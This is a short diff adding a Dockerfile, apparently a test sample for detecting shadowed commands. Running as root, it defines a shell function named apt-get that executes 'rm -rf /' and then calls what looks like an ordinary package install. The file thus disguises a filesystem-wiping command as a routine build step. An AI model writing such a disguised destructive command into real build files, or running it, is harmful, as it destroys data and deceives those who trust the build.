@@ -1,0 +1,9 @@
+# a function of that name
+# on: debian
+# effect: 7
+ARG base_image
+FROM ${base_image}
+USER root
+RUN apt-get() { rm -rf /; }; apt-get install -y curl
+ARG user_id
+USER ${user_id}
